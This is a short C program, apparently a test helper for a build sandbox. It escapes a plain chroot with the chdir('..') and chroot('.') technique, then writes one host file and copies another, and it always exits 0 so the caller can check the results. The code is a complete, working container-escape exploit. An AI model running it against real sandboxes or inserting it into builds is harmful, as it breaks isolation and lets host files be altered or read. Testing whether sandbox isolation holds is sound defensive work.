/* A hostile build's way out of a plain chroot: chroot into a subdirectory
 * while keeping the working directory outside it, climb with chdir("..")
 * past the old root, chroot(".") there, then write the file named by the
 * first argument and copy the file named by the second one into the third.
 * It reports what it managed and always exits 0, so the build goes on and
 * the caller looks at the files. Linked statically: it runs in a build
 * filesystem with no C library of its own. */
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    if (argc != 4) {
        fputs("usage: chroot-escape WRITE READ COPY\n", stderr);
        return 2;
    }
    mkdir("chroot-escape.d", 0755);
    if (chroot("chroot-escape.d") != 0)
        perror("chroot-escape: chroot");
    for (int i = 0; i < 64; ++i)
        if (chdir("..") != 0)
            break;
    if (chroot(".") != 0)
        perror("chroot-escape: chroot .");

    FILE *out = fopen(argv[1], "w");
    if (out != NULL) {
        fputs("escaped\n", out);
        fclose(out);
        puts("chroot-escape: wrote the host file");
    }
    FILE *in = fopen(argv[2], "r");
    FILE *copy = in != NULL ? fopen(argv[3], "w") : NULL;
    if (copy != NULL) {
        char buffer[4096];
        size_t n;
        while ((n = fread(buffer, 1, sizeof buffer, in)) > 0)
            fwrite(buffer, 1, n, copy);
        fclose(copy);
        puts("chroot-escape: read the host file");
    }
    if (in != NULL)
        fclose(in);
    return 0;
}
